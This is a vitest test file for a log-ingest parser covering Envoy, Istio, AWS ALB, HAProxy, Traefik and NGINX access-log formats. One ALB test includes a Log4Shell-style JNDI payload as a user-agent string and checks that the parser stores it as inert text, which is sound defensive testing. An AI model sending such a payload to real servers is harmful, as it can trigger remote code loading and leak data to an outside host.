import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { Secret } from '../../core/secret.ts';
import {
  createRecordParser,
  type ParseOutcome,
  type RecordParseError,
} from '../../ingest/parse.ts';
import type { SourceConfigInput } from '../../ingest/source-config.ts';
import type { AccessEvent } from '../../schemas/access-event.ts';
import { CORPUS_SKIP_REASON, corpusPath } from '../helpers/corpus.ts';

/** Returns the event of an accepted record; a rejection fails the test with its reason. */
function eventOf(outcome: ParseOutcome): AccessEvent {
  if (!outcome.ok) throw outcome.error;
  return outcome.event;
}

/** Returns the error of a rejected record; an accepted one fails the test. */
function errorOf(outcome: ParseOutcome): RecordParseError {
  if (outcome.ok) throw new Error(`expected a rejection, got event ${outcome.event.id}`);
  return outcome.error;
}

const key = new Secret('test-key', 'test');
const meta = { topic: 'logs', partition: 0, offset: '42' };
// sha256("logs\0" + "0\0" + "42\0"), the id of a record without a request id at this position.
const positionId = 'k-dbdbdaa1e7d0be56676c1d7673ac25ae';

function lines(path: string): string[] {
  return readFileSync(path, 'utf8')
    .split('\n')
    .filter((line) => line !== '');
}

function fixtureLines(file: string): string[] {
  return lines(new URL(`../fixtures/${file}`, import.meta.url).pathname);
}

function parseLine(source: Omit<SourceConfigInput, 'topic'>, line: string): ParseOutcome {
  return createRecordParser({ topic: 'logs', ...source }, { credentialKey: key })(
    Buffer.from(line),
    meta,
  );
}

/** The id of a record whose request id a client may set: the id, `~`, a hash of the bytes. */
function clientRequestId(requestId: string, line: string): string {
  return `${requestId}~${createHash('sha256').update(line).update('\0').digest('hex').slice(0, 16)}`;
}

function event(fields: Partial<AccessEvent>): AccessEvent {
  return {
    id: positionId,
    timestamp: 0,
    principal: '',
    credential: '',
    sourceIp: '',
    userAgent: '',
    method: '',
    host: '',
    path: '',
    route: '',
    status: 0,
    bytesIn: 0,
    bytesOut: 0,
    durationMs: 0,
    proxy: '',
    topic: 'logs',
    partition: 0,
    offset: 42,
    ...fields,
  };
}

describe('envoy gateway json parser', () => {
  it('parses a line behind the CRI prefix', () => {
    const line = fixtureLines('envoy-gateway-json/envoy.log')[0] ?? '';
    expect(parseLine({ format: 'envoy-json' }, line)).toEqual({
      ok: true,
      event: event({
        id: clientRequestId('3bbc0252-2d5c-49fe-bd89-104e9b61770b', line),
        timestamp: Date.parse('2025-12-31T16:37:40.479Z'),
        sourceIp: '10.0.0.12',
        userAgent: 'Mozilla/4.0 (Windows NT 9.0; Win64; x64; rv:136.0) Gecko/20101 Firefox/136.0',
        method: 'GET',
        host: 'www.example.com',
        path: '/assets/image.webp',
        route: '/assets/image.webp',
        status: 200,
        bytesOut: 121258,
        durationMs: 11,
        proxy: 'envoy-json',
      }),
    });
  });

  it('parses a text line behind the CRI prefix', () => {
    const line = fixtureLines('envoy-gateway-json/envoy.log')[4] ?? '';
    expect(parseLine({ format: 'envoy-json' }, line)).toEqual({
      ok: true,
      event: event({
        id: clientRequestId('test-request-id', line),
        timestamp: Date.parse('2026-01-24T01:34:36.743Z'),
        sourceIp: 'fd00:1234:5678::5a24',
        userAgent: 'curl/8.10.1',
        method: 'GET',
        host: 'example.com',
        path: '/test',
        route: '/test',
        status: 200,
        bytesOut: 256,
        durationMs: 50,
        proxy: 'envoy-json',
      }),
    });
  });

  it('parses every sample line', () => {
    const reasons = fixtureLines('envoy-gateway-json/envoy.log').map((line) => {
      const outcome = parseLine({ format: 'envoy-json' }, line);
      return outcome.ok ? 'ok' : outcome.error.reason;
    });
    expect(reasons).toEqual(reasons.map(() => 'ok'));
    expect(reasons).toHaveLength(10);
  });

  it('keeps the id of a replayed record', () => {
    const line = fixtureLines('envoy-gateway-json/envoy.log')[0] ?? '';
    const first = parseLine({ format: 'envoy-json' }, line);
    const again = parseLine({ format: 'envoy-json' }, line);
    expect(eventOf(again).id).toBe(eventOf(first).id);
  });

  it('splits records that repeat a request id', () => {
    const line = fixtureLines('envoy-gateway-json/envoy.log')[0] ?? '';
    const otherHop = line.replace('10.0.0.12:59292', '10.0.0.99:41000');
    const first = parseLine({ format: 'envoy-json' }, line);
    const second = parseLine({ format: 'envoy-json' }, otherHop);
    expect(eventOf(second).id).not.toBe(eventOf(first).id);
    expect(eventOf(second).id.startsWith('3bbc0252-2d5c-49fe-bd89-104e9b61770b~')).toBe(true);
  });
});

describe.skipIf(!corpusPath('envoy-text/envoy.log'))(
  `envoy text parser (${CORPUS_SKIP_REASON})`,
  () => {
    it('parses the default format', () => {
      const line = lines(corpusPath('envoy-text/envoy.log') ?? '')[1] ?? '';
      expect(parseLine({ format: 'envoy' }, line)).toEqual({
        ok: true,
        event: event({
          id: clientRequestId('c62ec130-6dee-4f3b-a52b-4f0d1312d89d', line),
          timestamp: Date.parse('2019-02-12T18:37:42.921Z'),
          sourceIp: '172.17.0.5',
          userAgent: 'curl/7.59.0',
          method: 'GET',
          host: 'httpbin.org',
          path: '/httpbin/ip',
          route: '/httpbin/ip',
          status: 200,
          bytesOut: 43,
          durationMs: 217,
          proxy: 'envoy',
        }),
      });
    });

    it('keeps a TCP entry without request', () => {
      const line = lines(corpusPath('envoy-text/envoy.log') ?? '')[0] ?? '';
      const outcome = parseLine({ format: 'envoy' }, line);
      expect(eventOf(outcome).method).toBe('');
      expect(eventOf(outcome).path).toBe('');
    });

    it('parses the Istio format', () => {
      const file = corpusPath('istio-envoy-text/test-access-logs.log');
      const line = lines(file ?? '')[0] ?? '';
      expect(parseLine({ format: 'envoy' }, line)).toEqual({
        ok: true,
        event: event({
          id: clientRequestId('785918d6-06b6-9312-bf77-6d9bd968dc21', line),
          timestamp: Date.parse('2022-07-20T09:52:24.955Z'),
          sourceIp: '10.68.1.7',
          userAgent:
            'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/103.0.5060.114 Safari/537.36',
          method: 'GET',
          host: 'details',
          path: '/details/0',
          route: '/details/{id}',
          status: 200,
          bytesOut: 178,
          durationMs: 2,
          proxy: 'envoy',
        }),
      });
    });

    it('parses the Istio JSON codec error', () => {
      const file = corpusPath('istio-envoy-json/test-access-json-logs.log');
      const line = lines(file ?? '')[2] ?? '';
      expect(parseLine({ format: 'envoy-json' }, line)).toEqual({
        ok: true,
        event: event({
          timestamp: Date.parse('2022-09-01T09:36:33.553Z'),
          sourceIp: '10.128.0.60',
          status: 400,
          bytesOut: 11,
          durationMs: 46,
          proxy: 'envoy-json',
        }),
      });
    });
  },
);

describe('alb parser', () => {
  it('parses an HTTPS entry', () => {
    const line = fixtureLines('aws-alb/aws-alb-logs.log')[1] ?? '';
    expect(parseLine({ format: 'alb' }, line)).toEqual({
      ok: true,
      event: event({
        id: clientRequestId('Root=1-58337281-1d84f3d73c47ec4e58577259', line),
        timestamp: Date.parse('2023-04-26T12:23:00.186Z'),
        sourceIp: '192.168.1.11',
        userAgent: 'curl/7.46.0',
        method: 'GET',
        host: 'www.example.com',
        path: '/robots.txt',
        route: '/robots.txt',
        status: 200,
        bytesOut: 57,
        durationMs: 171,
        proxy: 'alb',
      }),
    });
  });

  it('parses every sample line', () => {
    const reasons = fixtureLines('aws-alb/aws-alb-logs.log').map((line) => {
      const outcome = parseLine({ format: 'alb' }, line);
      return outcome.ok ? 'ok' : outcome.error.reason;
    });
    expect(reasons).toEqual(reasons.map(() => 'ok'));
  });

  it('keeps a log4j user agent as text', () => {
    const line = fixtureLines('aws-alb/aws-alb-logs.log')[4] ?? '';
    const outcome = parseLine({ format: 'alb' }, line);
    expect(eventOf(outcome).userAgent).toBe('${jndi:ldap://${java:version}.domain/a}');
  });
});

describe('haproxy parser', () => {
  it('parses a syslog line with host', () => {
    const line = fixtureLines('haproxy-http/haproxy.log')[1] ?? '';
    expect(parseLine({ format: 'haproxy' }, line)).toEqual({
      ok: true,
      event: event({
        timestamp: Date.UTC(2021, 4, 22, 2, 22, 22, 222),
        method: 'OPTIONS',
        host: 'site.domain.com',
        path: '/api/v2/app/',
        route: '/api/v2/app/',
        status: 200,
        bytesOut: 200,
        durationMs: 18,
        proxy: 'haproxy',
      }),
    });
  });

  it('reads the accept date in the time zone', () => {
    const line = fixtureLines('haproxy-http/haproxy-logs.log')[0] ?? '';
    const outcome = parseLine({ format: 'haproxy', timeZone: 'Asia/Shanghai' }, line);
    expect(eventOf(outcome).timestamp).toBe(Date.UTC(2015, 0, 14, 4, 48, 57, 127));
    expect(eventOf(outcome).sourceIp).toBe('117.136.40.129');
  });

  it('rejects TLS handshake lines', () => {
    const reasons = fixtureLines('haproxy-http/haproxy-logs.log').map((line) => {
      const outcome = parseLine({ format: 'haproxy' }, line);
      return outcome.ok ? 'ok' : outcome.error.reason;
    });
    expect(reasons).toEqual(['ok', 'ok', 'no_match', 'no_match', 'no_match']);
  });
});

describe('traefik json parser', () => {
  it('parses a real line', () => {
    const line = fixtureLines('traefik-json/traefik_json.log')[0] ?? '';
    expect(parseLine({ format: 'traefik' }, line)).toEqual({
      ok: true,
      event: event({
        timestamp: Date.parse('2021-12-08T14:02:43.587Z'),
        sourceIp: '172.17.0.1',
        userAgent: 'Nikto',
        method: 'GET',
        host: 'test.docker.localhost',
        path: '/594VAEoi.save',
        route: '/594VAEoi.save',
        status: 200,
        bytesOut: 357,
        durationMs: 0.357313,
        proxy: 'traefik',
      }),
    });
  });

  it('rejects the plugin debug line', () => {
    const line = fixtureLines('traefik-json/traefik_json.log')[5] ?? '';
    const outcome = parseLine({ format: 'traefik' }, line);
    expect(errorOf(outcome).reason).toBe('no_match');
  });
});

describe('nginx json parser', () => {
  // NGINX writes this shape with `log_format main escape=json '{...}'`; no public sample exists.
  const line = JSON.stringify({
    time_iso8601: '2024-03-01T10:00:00+01:00',
    remote_addr: '10.0.0.7',
    remote_user: '',
    request: 'GET /orders/7f3e9a2c-1b4d-4e8f-9a6b-2c3d4e5f6a7b/items?page=2 HTTP/1.1',
    status: 200,
    body_bytes_sent: 512,
    request_length: 120,
    request_time: 0.034,
    http_user_agent: 'billing/2.3',
    host: 'orders.internal',
    request_id: 'b1946ac92492d2347c6235b4d2611184',
    http_x_client_id: 'billing',
  });

  it('parses the variables', () => {
    expect(parseLine({ format: 'nginx-json', principal: 'header:X-Client-Id' }, line)).toEqual({
      ok: true,
      event: event({
        id: clientRequestId('b1946ac92492d2347c6235b4d2611184', line),
        timestamp: Date.UTC(2024, 2, 1, 9),
        principal: 'billing',
        sourceIp: '10.0.0.7',
        userAgent: 'billing/2.3',
        method: 'GET',
        host: 'orders.internal',
        path: '/orders/7f3e9a2c-1b4d-4e8f-9a6b-2c3d4e5f6a7b/items',
        route: '/orders/{uuid}/items',
        status: 200,
        bytesIn: 120,
        bytesOut: 512,
        durationMs: 34,
        proxy: 'nginx-json',
      }),
    });
  });

  it('names the field of the wrong type', () => {
    const bad = JSON.stringify({ ...JSON.parse(line), status: '200 OK' });
    const outcome = parseLine({ format: 'nginx-json' }, bad);
    expect(errorOf(outcome).reason).toBe('wrong_type');
    expect(errorOf(outcome).field).toBe('status');
    expect(errorOf(outcome).message).toBe('field status must be a non-negative number, got string');
  });
});
